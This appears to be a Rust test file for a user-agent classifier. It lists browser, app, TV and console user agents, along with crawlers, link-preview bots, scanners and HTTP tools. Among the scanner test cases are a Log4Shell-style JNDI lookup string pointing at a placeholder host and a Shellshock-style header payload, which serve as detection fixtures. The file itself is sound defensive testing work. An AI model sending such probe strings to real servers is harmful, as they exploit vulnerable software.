//! Tables of user agents as they were seen in the wild, and of what must not break anything.

use super::BotClass::{self, Crawler, Head, Person, Prefetch, Preview, Scanner, Tool, Unknown};
use super::Device::{self, Console, Desktop, Mobile, Other, Tablet, Tv};
use super::{FetchMetadata, Signals, Verdict, browser, classify, device, families, is_android, is_ios, os, words};

fn who(user_agent: &str) -> Verdict {
    classify(&Signals { user_agent: Some(user_agent), ..Signals::default() })
}

#[rustfmt::skip]
const PEOPLE: &[(&str, Device, &str, &str)] = &[
    // Desktops.
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36", Desktop, "Windows", "Chrome"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36", Desktop, "macOS", "Chrome"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36", Desktop, "Linux", "Chrome"),
    ("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36", Desktop, "ChromeOS", "Chrome"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/152.0.0.0 Safari/537.36 Edg/152.0.0.0", Desktop, "Windows", "Edge"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/17.17134", Desktop, "Windows", "Edge"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36 OPR/135.0.0.0 (Edition std-2)", Desktop, "Windows", "Opera"),
    ("Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18", Desktop, "Windows", "Opera"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:155.0) Gecko/20100101 Firefox/155.0", Desktop, "Windows", "Firefox"),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:149.0) Gecko/20100101 Firefox/149.0", Desktop, "Linux", "Firefox"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15", Desktop, "macOS", "Safari"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15 Ddg/17.6", Desktop, "macOS", "DuckDuckGo"),
    ("Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", Desktop, "Windows", "Internet Explorer"),
    ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; Tablet PC 2.0; InfoPath.3)", Desktop, "Windows", "Internet Explorer"),
    ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET CLR 1.1.4322)", Desktop, "Windows", "Internet Explorer"),
    ("Mozilla/5.0 (compatible; Konqueror/4.5; Linux; X11; en_US) KHTML/4.5.4 (like Gecko)", Desktop, "Linux", "Konqueror"),
    ("Mozilla/5.0 (X11; FreeBSD amd64; rv:128.0) Gecko/20100101 Firefox/128.0", Desktop, "FreeBSD", "Firefox"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 YaBrowser/25.12.0.0 Safari/537.36", Desktop, "Windows", "Yandex Browser"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Vivaldi/6.8.3381.50", Desktop, "Windows", "Vivaldi"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Whale/3.28.266.11 Safari/537.36", Desktop, "Windows", "Whale"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack_SSB/4.40.0 Chrome/128.0.6613.36 Electron/32.0.1 Safari/537.36", Desktop, "macOS", "Slack"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) discord/1.0.9163 Chrome/124.0.6367.243 Electron/30.2.0 Safari/537.36", Desktop, "Windows", "Discord"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Mattermost/5.9.0 Chrome/126.0.6478.127 Electron/31.2.1 Safari/537.36", Desktop, "Windows", "Electron"),
    ("Lynx/2.9.0dev.12 libwww-FM/2.14FM SSL-MM/1.4.1 GNUTLS/3.7.8", Other, "Other", "Lynx"),
    ("w3m/0.5.3+git20230121", Other, "Other", "w3m"),
    // Phones.
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.6.1 Mobile/15E148 Safari/604.1", Mobile, "iOS", "Safari"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 26_3_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/133.0.6943.33 Mobile/15E148 Safari/604.1", Mobile, "iOS", "Chrome"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/140.0 Mobile/15E148 Safari/605.1.15", Mobile, "iOS", "Firefox"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 EdgiOS/130.0.2849.68 Mobile/15E148 Safari/605.1.15", Mobile, "iOS", "Edge"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 26_1_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/436.4.969249353 Mobile/15E148 Safari/604.1", Mobile, "iOS", "Google App"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", Mobile, "iOS", "iOS WebView"),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/153.0.0.0 Mobile Safari/537.36", Mobile, "Android", "Chrome"),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36", Mobile, "Android", "Samsung Internet"),
    ("Mozilla/5.0 (Android 15; Mobile; rv:140.0) Gecko/140.0 Firefox/140.0", Mobile, "Android", "Firefox"),
    ("Mozilla/5.0 (Linux; Android 13; CUBOT X18 Plus) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", Mobile, "Android", "Chrome"),
    ("Mozilla/5.0 (Linux; U; Android 13; en-US; RMX3371 Build/TP1A) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.5.0.1313 Mobile Safari/537.36", Mobile, "Android", "UC Browser"),
    ("Mozilla/5.0 (Linux; U; Android 4.0.3; de-de; Galaxy S II Build/GRJ22) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", Mobile, "Android", "Android Browser"),
    ("Opera/9.80 (Android; Opera Mini/80.0.2254/191.303; U; en) Presto/2.12.423 Version/12.16", Mobile, "Android", "Opera Mini"),
    ("Mozilla/5.0 (Linux; Android 10; HarmonyOS; NOH-AN00; HMSCore 6.13.0.321) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.88 HuaweiBrowser/14.0.5.302 Mobile Safari/537.36", Mobile, "Android", "Huawei Browser"),
    ("Mozilla/5.0 (Phone; OpenHarmony 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 ArkWeb/4.1.6.1 Mobile", Mobile, "HarmonyOS", "Chrome"),
    ("Mozilla/5.0 (Linux; U; Android 12; zh-cn; M2012K11AC) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.127 Mobile Safari/537.36 XiaoMi/MiuiBrowser/17.3.22", Mobile, "Android", "MIUI Browser"),
    ("Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5", Mobile, "KaiOS", "Firefox"),
    ("Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537", Mobile, "Windows Phone", "Internet Explorer"),
    ("Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+", Mobile, "BlackBerry OS", "BlackBerry"),
    ("Nokia6100/1.0 (04.01) Profile/MIDP-1.0 Configuration/CLDC-1.0", Mobile, "Other", "Nokia Browser"),
    // Browsers inside apps are people, also where the same company runs a fetcher.
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22B83 [FBAN/FBIOS;FBAV/489.0.0.52.98;FBBV/659263374;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/18.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]", Mobile, "iOS", "Facebook"),
    ("Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.102 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/490.0.0.63.82;]", Mobile, "Android", "Facebook"),
    ("Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook", Mobile, "Android", "Facebook"),
    ("Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/129.0.6668.100 Mobile Safari/537.36 [FB_IAB/Orca-Android;FBAV/480.0.0.32.109;]", Mobile, "Android", "Messenger"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21G93 Instagram 350.0.0.25.89 (iPhone13,2; iOS 17_6_1; en_US; en; scale=3.00; 1170x2532; 639026390)", Mobile, "iOS", "Instagram"),
    ("Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram 406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1; mt6833; en_MY)", Mobile, "Android", "Instagram"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Barcelona 346.0.0.24.97 (iPhone15,2; iOS 17_5; en_US; en; scale=3.00; 1179x2556)", Mobile, "iOS", "Threads"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1 Line/14.9.0", Mobile, "iOS", "LINE"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1 Snapchat/13.10.0.43 (like Safari/8619.1.26.110.7, panda)", Mobile, "iOS", "Snapchat"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 WhatsApp/2.24.20.71", Mobile, "iOS", "WhatsApp"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_36.2.0 BytedanceWebview/d8a21c6", Mobile, "iOS", "TikTok"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21F79 Twitter for iPhone/10.50", Mobile, "iOS", "X"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.29.7434", Mobile, "iOS", "LinkedIn"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]", Mobile, "iOS", "Pinterest"),
    ("Mozilla/5.0 (Linux; Android 13; 2201117TG Build/TKQ1; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 MicroMessenger/8.0.42.2428(0x28002A35) WeChat/arm64 Weixin NetType/WIFI", Mobile, "Android", "WeChat"),
    ("Mozilla/5.0 (Linux; Android 13; SM-G991N; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/118.0.0.0 Mobile Safari/537.36;KAKAOTALK 2410560", Mobile, "Android", "KakaoTalk"),
    ("Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/UQ1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.53 Mobile Safari/537.36", Mobile, "Android", "Android WebView"),
    ("Mozilla/5.0 (Linux; Android 4.4.4; SHV31 Build/S2280) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/33.0.0.0 Mobile Safari/537.36", Mobile, "Android", "Android WebView"),
    ("Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_5_7; HTC_DesireHD; en-us) AppleWebKit/530.17 (KHTML, like Gecko) Version/4.0 Safari/530.17", Mobile, "macOS", "Safari"),
    // Tablets.
    ("Mozilla/5.0 (iPad; CPU OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1", Tablet, "iOS", "Safari"),
    ("Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/125.0.6422.51 Mobile/15E148 Safari/604.1", Tablet, "iOS", "Chrome"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/141 Version/11.1.1 Safari/605.1.15", Tablet, "iOS", "Chrome"),
    ("Mozilla/5.0 (Linux; Android 13; SM-X200) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36", Tablet, "Android", "Chrome"),
    ("Mozilla/5.0 (Android 13; Tablet; rv:126.0) Gecko/126.0 Firefox/126.0", Tablet, "Android", "Firefox"),
    ("Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/121.4.1 like Chrome/121.0.6167.180 Safari/537.36", Tablet, "Android", "Amazon Silk"),
    ("Mozilla/5.0 (X11; U; Linux armv7l like Android; en-us) AppleWebKit/531.2+ (KHTML, like Gecko) Version/5.0 Safari/533.2+ Kindle/3.0+", Tablet, "Android", "Android Browser"),
    // Televisions.
    ("Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.5) AppleWebKit/537.36 (KHTML, like Gecko) 85.0.4183.93/6.5 TV Safari/537.36", Tv, "Tizen", "Safari"),
    ("Mozilla/5.0 (SMART-TV; Linux; Tizen 5.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/2.2 Chrome/63.0.3239.84 TV Safari/537.36", Tv, "Tizen", "Samsung Internet"),
    ("Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager", Tv, "webOS", "Chrome"),
    ("Mozilla/5.0 (Linux; Android 9; AFTS Build/PS7285) AppleWebKit/537.36 (KHTML, like Gecko) Silk/110.4.1 like Chrome/110.0.5481.154 Safari/537.36", Tv, "Android", "Amazon Silk"),
    ("Mozilla/5.0 (Linux; Android 10; BRAVIA 4K VH2 Build/QTG3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.5481.153 Safari/537.36", Tv, "Android", "Chrome"),
    ("Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.250 Safari/537.36 CrKey/1.56.500000", Tv, "Linux", "Chrome"),
    ("Mozilla/5.0 (Linux; Android 12; Chromecast Build/STTE) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Tv, "Android", "Chrome"),
    ("Opera/9.80 (Linux armv7l; HbbTV/1.2.1 (; Philips; 40PFL5507; ;; ) CE-HTML/1.0 NETTV/4.1.4) Presto/2.12.407 Version/12.50", Tv, "Linux", "Opera"),
    // Consoles and the rest.
    ("Mozilla/5.0 (PlayStation; PlayStation 5/6.50) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 Safari/605.1.15", Console, "PlayStation", "Safari"),
    ("Mozilla/5.0 (PLAYSTATION 3; 3.55)", Console, "PlayStation", "NetFront"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36 Edge/44.18363.8131", Console, "Windows", "Edge"),
    ("Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.21.3 NintendoBrowser/5.1.0.22474", Console, "Nintendo", "Nintendo Browser"),
    ("Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/34.1.0.16.62 Chrome/126.0.6478.122 VR Safari/537.36", Other, "Android", "Meta Quest Browser"),
    ("Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 (KHTML, like Gecko) Chromium/79.0.3945.130 Chrome/79.0.3945.130 Safari/537.36 Tesla/2020.16.2.1-e99c70fff409", Other, "Linux", "Chromium"),
];

#[rustfmt::skip]
const PROGRAMS: &[(&str, BotClass, &str)] = &[
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", Preview, "facebookexternalhit"),
    ("facebookexternalhit/1.1;line-poker/1.0", Preview, "facebookexternalhit"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0", Preview, "facebookexternalhit"),
    ("Facebot/1.0", Preview, "facebot"),
    ("Twitterbot/1.0", Preview, "twitterbot"),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", Preview, "slackbot"),
    ("Slack-ImgProxy (+https://api.slack.com/robots)", Preview, "slack-imgproxy"),
    ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", Preview, "discordbot"),
    ("TelegramBot (like TwitterBot)", Preview, "telegrambot"),
    ("WhatsApp/2.23.20.0 A", Preview, "whatsapp/"),
    ("WhatsApp", Preview, "whatsapp"),
    ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)", Preview, "linkedinbot"),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com", Preview, "skypeuripreview"),
    ("Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)", Preview, "redditbot"),
    ("Pinterest/0.2 (+https://www.pinterest.com/bot.html)", Preview, "pinterest.com/bot"),
    ("Mozilla/5.0 (compatible; vkShare; +http://vk.com/dev/Share)", Preview, "vkshare"),
    ("Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)", Preview, "embedly"),
    ("Iframely/1.3.1 (+https://iframely.com/docs/about) Atlassian", Preview, "iframely"),
    ("http.rb/5.1.0 (Mastodon/4.1.2; +https://mastodon.social/)", Preview, "mastodon/"),
    ("Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)", Preview, "cardyb"),
    ("Viber", Preview, "viber"),
    ("Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots", Preview, "snap url preview"),
    ("Google-PageRenderer Google (+https://developers.google.com/+/web/snippet/)", Preview, "google-pagerenderer"),
    ("Synapse (bot; +https://github.com/matrix-org/synapse)", Preview, "synapse (bot"),
    ("Mozilla/4.0 (compatible; ms-office; MSOffice 16)", Preview, "ms-office"),
    ("SomeNewChat LinkUnfurler/1.0", Preview, "unfurl"),
    ("Barracuda Sentinel (EE)", Scanner, "barracuda"),
    ("Mozilla/5.0 (compatible; Proofpoint URL Defense)", Scanner, "proofpoint"),
    ("Mozilla/5.0 (Windows NT 10.0) Mimecast URL Protect", Scanner, "mimecast"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Scanner, "nmap"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", Scanner, "masscan"),
    ("Mozilla/5.0 zgrab/0.x", Scanner, "zgrab"),
    ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", Scanner, "censys"),
    ("Expanse, a Palo Alto Networks company, searches across the global IPv4 space", Scanner, "expanse, a palo alto"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/100.0 Safari/537.36 urlscan.io", Scanner, "urlscan"),
    ("virustotalcloud (gzip)", Scanner, "virustotal"),
    ("${jndi:ldap://198.51.100.7/a}", Scanner, "jndi:"),
    ("() { :; }; /bin/true", Scanner, "() {"),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Crawler, "googlebot"),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/W.X.Y.Z Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Crawler, "googlebot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", Crawler, "bingbot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", Crawler, "gptbot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", Crawler, "claudebot"),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", Crawler, "yandex.com/bots"),
    ("Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)", Crawler, "yahoo! slurp"),
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", Crawler, "baiduspider"),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", Crawler, "ahrefsbot"),
    ("Mozilla/5.0 (compatible; NeverSeenBefore_Bot/0.1)", Crawler, "bot"),
    ("Mozilla/5.0 (compatible; Optimist)", Crawler, "compatible;"),
    ("Scrapy/2.11.0 (+https://scrapy.org)", Crawler, "scrap"),
    ("curl/8.5.0", Tool, "curl/"),
    ("Wget/1.21.4", Tool, "wget"),
    ("python-requests/2.32.3", Tool, "python-requests"),
    ("Python/3.12 aiohttp/3.9.5", Tool, "aiohttp"),
    ("Go-http-client/2.0", Tool, "go-http-client"),
    ("okhttp/4.12.0", Tool, "okhttp"),
    ("Java/17.0.11", Tool, "java/"),
    ("axios/1.7.2", Tool, "axios"),
    ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", Crawler, "https:"),
    ("node", Tool, "node"),
    ("undici", Tool, "undici"),
    ("PostmanRuntime/7.39.0", Tool, "postmanruntime"),
    ("libwww-perl/6.72", Tool, "libwww"),
    ("Ruby", Tool, "ruby"),
    ("Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)", Tool, "dalvik"),
    ("MyApp/7 CFNetwork/1494.0.7 Darwin/23.4.0", Tool, "cfnetwork"),
    ("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506", Tool, "powershell"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36", Tool, "headlesschrome"),
    ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", Tool, "phantomjs"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36; Selenium", Tool, "selenium"),
    ("Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse", Tool, "chrome-lighthouse"),
    ("my-own-job/3", Tool, "program-name"),
    ("Mozilla/5.0", Unknown, "not-a-browser"),
    ("Hello World", Unknown, "not-a-browser"),
    ("Instagram 350.0.0.25.89 Android (34/14; 480dpi)", Unknown, "not-a-browser"),
    ("Roku/DVP-13.0 (13.0.0.4184-55)", Unknown, "not-a-browser"),
    ("AppleWebKit", Unknown, "not-a-browser"),
    ("   ", Unknown, "no-user-agent"),
];

#[test]
fn people_are_people_with_device_system_and_browser() {
    for &(user_agent, wanted_device, wanted_os, wanted_browser) in PEOPLE {
        let verdict = who(user_agent);
        assert_eq!((verdict.class, verdict.reason), (Person, "browser"), "{user_agent}");
        assert_eq!(device(user_agent), wanted_device, "{user_agent}");
        assert_eq!(os(user_agent), wanted_os, "{user_agent}");
        assert_eq!(browser(user_agent), wanted_browser, "{user_agent}");
        assert_eq!(is_ios(user_agent), wanted_os == "iOS", "{user_agent}");
        assert_eq!(is_android(user_agent), user_agent.contains("Android") && wanted_os == "Android", "{user_agent}");
        assert_eq!(who(&user_agent.to_uppercase()).class, verdict.class, "{user_agent}");
    }
}

#[test]
fn programs_are_told_with_the_word_that_gave_them_away() {
    for &(user_agent, class, reason) in PROGRAMS {
        assert_eq!(who(user_agent), Verdict { class, reason }, "{user_agent}");
    }
}

#[test]
fn method_and_purpose_come_before_the_user_agent() {
    let (chrome, ..) = PEOPLE[0];
    let person = Signals { user_agent: Some(chrome), fetch_metadata: FetchMetadata::Sent, ..Signals::default() };
    let purpose = |purpose| classify(&Signals { purpose: Some(purpose), ..person }).class;
    assert_eq!(classify(&person), Verdict { class: Person, reason: "browser" });
    assert_eq!(classify(&Signals { is_head: true, ..person }).class, Head);
    assert_eq!(classify(&Signals { is_head: true, purpose: Some("prefetch"), user_agent: None, ..person }).class, Head);
    for ahead in ["prefetch", "Prefetch;prerender", "prefetch;anonymous-client-ip", "preview", "PRERENDER"] {
        assert_eq!(purpose(ahead), Prefetch, "{ahead}");
    }
    for other in ["", "navigate", "pre", "\u{0}"] {
        assert_eq!(purpose(other), Person, "{other}");
    }
    assert_eq!(classify(&Signals::default()), Verdict { class: Unknown, reason: "no-user-agent" });
}

/// User agents of browsers that send `Sec-Fetch-*` with every request, at the versions where that begins and today.
const SENDERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.87 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/153.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/152.0.0.0 Safari/537.36 Edg/152.0.0.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 EdgA/124.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36 OPR/135.0.0.0 (Edition std-2)",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:90.0) Gecko/20100101 Firefox/90.0",
    "Mozilla/5.0 (Android 15; Mobile; rv:140.0) Gecko/140.0 Firefox/140.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.6.1 Mobile/15E148 Safari/604.1",
];

